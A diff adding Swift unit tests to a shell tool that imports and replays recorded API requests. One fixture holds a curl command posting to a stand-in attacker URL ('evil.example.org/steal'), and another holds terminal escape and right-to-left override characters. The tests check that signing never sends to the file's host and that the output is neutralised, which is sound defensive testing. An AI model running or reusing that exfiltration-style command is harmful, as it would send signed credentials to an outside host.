@@ -104,6 +104,43 @@ struct ImportTests {
         #expect(shell.errors.text.contains("x1 → x3:"))
     }
 
+    /// A file does not choose where a signed request goes.
+    @Test func whatIsSignedGoesWhereTheSessionSends() async throws {
+        folder.write("evil.txt", Array("curl 'https://evil.example.org/steal' -d 'Action=GetRegion'".utf8))
+        let shell = try shell(isTerminal: true)
+        #expect(await shell.run("import \(folder.file("evil.txt"))").status == 0)
+        shell.output.bytes = []
+        #expect(
+            await shell.run("curl --with-secrets x1; curl x1; last x1 curl; last x1 python; sign x1").status
+                == 0)
+        #expect(!shell.output.text.contains("evil.example.org"))
+        #expect(shell.output.text.contains(shell.session.settings.endpoint.value.host))
+        // Where it went is shown all the same.
+        #expect(await shell.run("last x1 request; last x1 har").status == 0)
+        #expect(
+            shell.output.text.matches(of: /(> POST |"url": ")https:\/\/evil\.example\.org\/steal/).count == 2)
+    }
+
+    @Test func timesKeepTheirMilliseconds() async throws {
+        let entry =
+            #"{"startedDateTime":"2026-11-26T02:00:00.123Z","request":{"method":"GET","url":"https://api.compshare.cn/?Action=GetRegion"},"response":{"status":200,"content":{"text":"{}"}}}"#
+        folder.write("one.jsonl", Array((entry + "\n").utf8))
+        let shell = try shell()
+        #expect(await shell.run("import \(folder.file("one.jsonl"))\nlast x1 har").status == 0)
+        #expect(shell.output.text.contains("00.123"), "\(shell.output.text)")
+    }
+
+    /// Into a pipe too.
+    @Test func whyShowsNoCodesOfTheServers() async throws {
+        let entry =
+            #"{"request":{"method":"GET","url":"https://api.compshare.cn/?Action=GetRegion"},"response":{"status":200,"content":{"text":"{\"RetCode\":9999,\"Message\":\"a\\u001b[2Jb\\u202ec\"}"}}}"#
+        folder.write("one.jsonl", Array((entry + "\n").utf8))
+        let shell = try shell()
+        #expect(await shell.run("import \(folder.file("one.jsonl"))\nwhy x1").status == 0)
+        #expect(shell.output.text.contains("␛[2Jb<U+202E>c"), "\(shell.output.text)")
+        #expect(!shell.output.text.contains("\u{1B}"))
+    }
+
     @Test func aChangeAsksAsAlways() async throws {
         folder.write(
             "stop.txt",
@@ -143,7 +180,7 @@ struct ImportTests {
         #expect(
             shell.errors.text.contains(
                 "20 earlier calls of the file are left out: 50 exchanges and 64 MiB are kept"))
-        #expect(shell.errors.text.contains("x1 to x1 are no longer kept"))
+        #expect(shell.errors.text.contains("x1 is no longer kept"))
         #expect(shell.session.ring.entries.count == 50)
     }
 
